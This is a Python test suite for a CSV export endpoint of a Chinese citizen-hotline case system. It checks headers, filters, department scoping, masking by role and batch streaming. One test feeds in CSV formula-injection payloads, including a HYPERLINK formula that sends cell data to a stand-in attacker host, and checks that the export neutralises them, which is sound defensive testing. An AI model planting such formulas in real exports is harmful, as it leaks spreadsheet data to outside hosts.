"""工单导出 over REST against the dev server with a real worker: BOM and Chinese headers, names from the pinned
rules, filters, department scope, masking and unmasking by role, formula injection, streaming in batches."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import random
import re
import uuid
from collections.abc import AsyncIterator
from datetime import date, timedelta

import httpx
import pytest
import pytest_asyncio
import sqlalchemy as sa
from fastapi import FastAPI
from sqlmodel import Session
from temporalio.client import Client
from temporalio.worker import Worker

from api.app import create_app
from api.routes import exports
from core.columns import utcnow
from core.crypto import Cipher, mask_name, mask_phone
from core.models import Case
from core.settings import Settings
from tests.helpers import auth, intake, wait_status

pytestmark = pytest.mark.temporal

URL = "/api/v1/reports/cases.csv"
BOM = b"\xef\xbb\xbf"
HEADERS = ["工单编号", "工单类型", "受理渠道", "问题大类", "问题小类", "标题", "主要内容", "工单状态", "紧急程度",
           "来电人", "联系电话", "来电时间", "被反映区", "被反映街乡镇", "点位", "主办单位", "工单性质", "办理结果",
           "回复内容", "办结时间", "是否联系", "是否解决", "是否满意", "是否有效回访", "是否超期", "重复诉求",
           "规则版本"]


@pytest.fixture
def app(settings: Settings, client: Client, worker: Worker) -> FastAPI:
    """The real app with the export router (registered here until api/app.py includes it)."""
    app = create_app(settings, client)
    if URL not in {getattr(route, "path", None) for route in app.routes}:
        app.include_router(exports.router, prefix="/api/v1")
    return app


@pytest_asyncio.fixture
async def api(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    """An HTTP client of that app."""
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test") as http:
        yield http


async def asgi_body_chunks(app: FastAPI, token: str, query: str) -> list[bytes]:
    """GET the export straight through ASGI and keep every body message apart (httpx's transport joins them)."""
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
             "path": URL, "raw_path": URL.encode(), "query_string": query.encode(), "root_path": "",
             "headers": [(b"host", b"test"), (b"authorization", f"Bearer {token}".encode())],
             "server": ("test", 80), "client": ("127.0.0.1", 50000)}
    messages: list[dict] = []
    done, asked = asyncio.Event(), False

    async def receive() -> dict:
        nonlocal asked
        if not asked:
            asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await done.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        messages.append(message)
        if message["type"] == "http.response.body" and not message.get("more_body"):
            done.set()

    await asyncio.wait_for(app(scope, receive, send), timeout=60)
    assert messages[0]["type"] == "http.response.start" and messages[0]["status"] == 200
    return [m["body"] for m in messages if m["type"] == "http.response.body" and m.get("body")]


def new_token() -> str:
    """A marker for this test's descriptions (upper case, to test the case-insensitive search)."""
    return f"EXP{uuid.uuid4().hex[:10].upper()}"


def new_phone() -> str:
    """A random mainland mobile number, so phone searches see only this test's cases."""
    return f"139{random.randrange(10**8):08d}"


def parse(r: httpx.Response) -> list[dict[str, str]]:
    """The CSV rows as dicts by header."""
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8").lstrip("\ufeff"))))
    assert rows and rows[0] == HEADERS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def export(api: httpx.AsyncClient, token: str, **params: object) -> list[dict[str, str]]:
    """Rows of a successful export."""
    r = await api.get(URL, params=params, headers=auth(token))
    assert r.status_code == 200, r.text
    return parse(r)


async def numbers(api: httpx.AsyncClient, token: str, **params: object) -> list[str]:
    """Case numbers of an export."""
    return [row["工单编号"] for row in await export(api, token, **params)]


async def create(api: httpx.AsyncClient, tokens: dict[str, str], status: str = "dispatched", **over: object) -> str:
    """A case through intake (own phone unless given, so no repeat links), waited for until it shows ``status``."""
    over.setdefault("complainant", {"name": "王小明", "phone": new_phone()})
    case_no = (await intake(api, tokens, **over))["case_no"]
    await wait_status(api, tokens["intake"], case_no, status)
    return case_no


async def test_bom_headers_and_a_new_case_with_chinese_names(api, tokens) -> None:
    token, phone = new_token(), new_phone()
    text = f"{token} 3号楼顶有人私搭乱建彩钢房，存在安全隐患，希望尽快处理。"
    case_no = await create(api, tokens, description=text, complainant={"name": "王小明", "phone": phone})
    screened = await create(api, tokens, "archived", description=f"{token} 楼道里着火了，浓烟很大",
                            screening_decision={"rule": "EMERGENCY_119", "confirm": True})
    r = await api.get(URL, params={"q": token}, headers=auth(tokens["supervisor"]))
    assert r.status_code == 200 and r.content.startswith(BOM + "工单编号,工单类型,".encode())
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="cases-\d{14}\.csv"', r.headers["content-disposition"])
    rows = parse(r)
    assert [row["工单编号"] for row in rows] == [case_no, screened]
    row = rows[0]
    assert (row["来电人"], row["联系电话"]) == ("王**", phone[:3] + "****" + phone[-4:])
    place = (row["问题大类"], row["问题小类"], row["被反映区"], row["被反映街乡镇"])
    assert place == ("城乡建设", "违法建设", "西城区", "金融街街道")
    assert row["主办单位"] == "西城区城市管理综合行政执法局" and row["工单性质"] == "主办"
    facts = (row["工单类型"], row["受理渠道"], row["工单状态"], row["紧急程度"])
    assert facts == ("投诉", "12345热线", "待签收", "一般")
    assert row["标题"] == text[:30] and len(row["标题"]) == 30 and row["主要内容"] == text
    assert row["点位"] == "西城区金融街街道某小区3号楼楼顶" and row["规则版本"] == "2026.3"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", row["来电时间"]) and row["办结时间"] == ""
    assert [row[k] for k in ("是否联系", "是否解决", "是否满意", "是否有效回访", "是否超期", "重复诉求")] == \
        ["", "", "", "否", "否", "否"]  # 是否联系: not asked yet
    away = rows[1]
    away_facts = (away["工单性质"], away["主办单位"], away["办理结果"], away["工单状态"])
    assert away_facts == ("转办", "", "即时转办", "已归档")
    assert away["办结时间"] != ""


async def test_filters_narrow_the_export(api, tokens) -> None:
    token, p1, p2 = new_token(), new_phone(), new_phone()
    sup = tokens["supervisor"]
    a = await create(api, tokens, description=f"{token} 楼顶违建", complainant={"name": "张三", "phone": p1})
    b = await create(api, tokens, category="CXJS02", kind="求助", street="德胜街道", description=f"{token} 夜间施工",
                     complainant={"name": "李四", "phone": p2})
    c = await create(api, tokens, category="HJBH01", district="chaoyang", street="望京街道", address="望京某工地",
                     description=f"{token} 工地扬尘", complainant={"name": "赵五", "phone": p2})
    assert await numbers(api, sup, q=token) == [a, b, c]
    assert await numbers(api, sup, q=token.lower()) == [a, b, c]
    assert await numbers(api, sup, q=token, category="CXJS") == [a, b]
    assert await numbers(api, sup, q=token, category="CXJS01") == [a]
    assert await numbers(api, sup, q=token, category="HJBH") == [c]
    assert await numbers(api, sup, q=token, district="chaoyang") == [c]
    assert await numbers(api, sup, q=token, street="金融街街道") == [a]
    assert await numbers(api, sup, q=token, kind="求助") == [b]
    assert await numbers(api, sup, q=token, lead_department="xicheng-zjw") == [b]
    assert await numbers(api, sup, q=token, department="xicheng-zjw") == [b]  # the name every other report uses
    assert await numbers(api, sup, q=token, department="chaoyang-cgzf") == []
    assert await numbers(api, sup, phone=f"+86 {p2[:3]}-{p2[3:7]}-{p2[7:]}") == [b, c]
    assert await numbers(api, sup, phone=p1) == [a]
    assert await numbers(api, sup, q=token, contacted=True) == []
    assert await numbers(api, sup, q=token, limit=2) == [a, b]
    day = date.fromisoformat((await export(api, sup, case_no=a))[0]["来电时间"][:10])
    assert a in await numbers(api, sup, q=token, received_from=day.isoformat(), received_to=day.isoformat())
    assert await numbers(api, sup, q=token, received_from=(day + timedelta(days=1)).isoformat()) == []
    assert await numbers(api, sup, q=token, received_to=(day - timedelta(days=1)).isoformat()) == []
    assert await numbers(api, sup, q=token, closed_from="2000-01-01T00:00:00+08:00") == []
    signed = await api.post(f"/api/v1/cases/{a}/sign-for", json={}, headers=auth(tokens["handler"]))
    assert signed.status_code == 200, signed.text
    await wait_status(api, tokens["intake"], a, "handling")
    assert await numbers(api, sup, q=token, status="handling") == [a]
    assert await numbers(api, sup, q=token, status="dispatched") == [b, c]


@pytest.mark.parametrize(("params", "code"), [
    ({"status": "bogus"}, "validation_error"), ({"kind": "complaint"}, "validation_error"),
    ({"received_from": "2026-02-30"}, "validation_error"), ({"closed_from": "2026-01-01T08:00:00"}, "validation_error"),
    ({"received_from": "2026-03-02", "received_to": "2026-03-01"}, "validation_error"),
    ({"category": "NOPE99"}, "unknown_reference"), ({"phone": "12345"}, "validation_error"),
    ({"limit": 0}, "validation_error"),
])
async def test_invalid_filters_answer_422(api, tokens, params: dict, code: str) -> None:
    r = await api.get(URL, params=params, headers=auth(tokens["supervisor"]))
    assert r.status_code == 422 and r.json()["code"] == code, r.text


async def test_handler_sees_only_its_department(api, tokens) -> None:
    token = new_token()
    own = await create(api, tokens, description=f"{token} 西城违建")
    await create(api, tokens, category="HJBH01", district="chaoyang", street="望京街道", description=f"{token} 扬尘")
    other = await create(api, tokens, district="chaoyang", street="望京街道", description=f"{token} 朝阳违建")
    assert len(await numbers(api, tokens["supervisor"], q=token)) == 3
    assert await numbers(api, tokens["handler"], q=token) == [own]
    assert await numbers(api, tokens["handler"], q=token, lead_department="chaoyang-cgzf") == [own]
    assert await numbers(api, tokens["other_handler"], q=token) == [other]
    assert await numbers(api, tokens["supervisor"], q=token, lead_department="chaoyang-cgzf") == [other]


async def test_unmask_by_role_and_the_export_log(api, tokens, caplog) -> None:
    token, phone = new_token(), new_phone()
    case_no = await create(api, tokens, description=f"{token} 违建", complainant={"name": "欧阳娜娜", "phone": phone})
    with caplog.at_level(logging.INFO, logger="jiesu.export"):
        rows = await export(api, tokens["supervisor"], q=token, unmask=True, phone=phone)
    assert [(r["工单编号"], r["来电人"], r["联系电话"]) for r in rows] == [(case_no, "欧阳娜娜", phone)]
    logged = [rec.getMessage() for rec in caplog.records if rec.name == "jiesu.export"]
    assert len(logged) == 1 and "unmasked=True" in logged[0] and "rows=1" in logged[0] and token in logged[0]
    assert phone not in logged[0] and "欧阳" not in logged[0] and "supervisor" in logged[0]
    rows = await export(api, tokens["handler"], q=token, unmask="true")
    assert [(r["来电人"], r["联系电话"]) for r in rows] == [("欧阳娜娜", phone)]
    masked = await export(api, tokens["admin"], q=token)
    assert [(r["来电人"], r["联系电话"]) for r in masked] == [("欧***", mask_phone(phone))]
    for role in ("auditor", "admin"):
        r = await api.get(URL, params={"q": token, "unmask": "true"}, headers=auth(tokens[role]))
        assert r.status_code == 403 and r.json()["code"] == "forbidden"
    r = await api.get(URL, params={"q": token}, headers=auth(tokens["intake"]))
    assert r.status_code == 403 and r.json()["code"] == "forbidden"
    assert (await api.get(URL)).status_code == 401


async def test_formula_injection_is_neutralised(api, tokens) -> None:
    token = new_token()
    text = f'=HYPERLINK("http://evil.example/?x="&A1,"点我") {token} 楼下违建'
    await create(api, tokens, description=text, address="@SUM(1+1) 点位",
                 complainant={"name": "=cmd", "phone": new_phone()})
    rows = await export(api, tokens["supervisor"], q=token)
    assert len(rows) == 1
    row = rows[0]
    assert row["主要内容"] == "'" + text and row["标题"] == "'" + text[:30]
    assert row["点位"] == "'@SUM(1+1) 点位" and row["来电人"] == "'" + mask_name("=cmd")
    unmasked = await export(api, tokens["supervisor"], q=token, unmask=True)
    assert unmasked[0]["来电人"] == "'=cmd"
    assert exports.safe("+1") == "'+1" and exports.safe("-x") == "'-x" and exports.safe("\tA") == "'\tA"
    assert exports.safe("1+1") == "1+1" and exports.safe(None) == ""


async def test_export_streams_in_batches(app, api, tokens, settings, engine, monkeypatch) -> None:
    token, phone, count, batch = new_token(), new_phone(), 250, 40
    cipher, now = Cipher(settings), utcnow()
    with Session(engine) as session:
        session.add_all([Case(
            case_no=f"B{token}{i:05d}", external_id=f"bulk-{token}-{i}", tracking_code=f"T{token}{i:05d}",
            kind="投诉", channel="web", category="CXJS01", district="xicheng", address="西城区某处",
            description=f"{token} 批量工单 {i}", name_enc=cipher.encrypt("李四"), phone_enc=cipher.encrypt(phone),
            phone_hash=cipher.phone_hash(phone), name_masked="李*", phone_masked=mask_phone(phone), status="closed",
            lead_department="xicheng-cgzf", rules_version="2026.2", received_at=now,
            received_date=now.astimezone(exports.TZ).date(), closed_at=now, workflow_started=True,
        ) for i in range(count)])
        session.commit()
    monkeypatch.setattr(exports, "BATCH_SIZE", batch)
    try:
        chunks = await asgi_body_chunks(app, tokens["supervisor"], f"q={token}")
        assert chunks[0].startswith(BOM) and len(chunks) == 1 + -(-count // batch)
        body = b"".join(chunks).decode("utf-8").lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(body)))
        assert rows[0] == HEADERS and [r[0] for r in rows[1:]] == [f"B{token}{i:05d}" for i in range(count)]
        assert len(await export(api, tokens["auditor"], q=token, limit=100)) == 100
    finally:
        with engine.begin() as conn:
            conn.execute(sa.delete(Case).where(Case.external_id.like(f"bulk-{token}-%")))  # type: ignore[attr-defined]
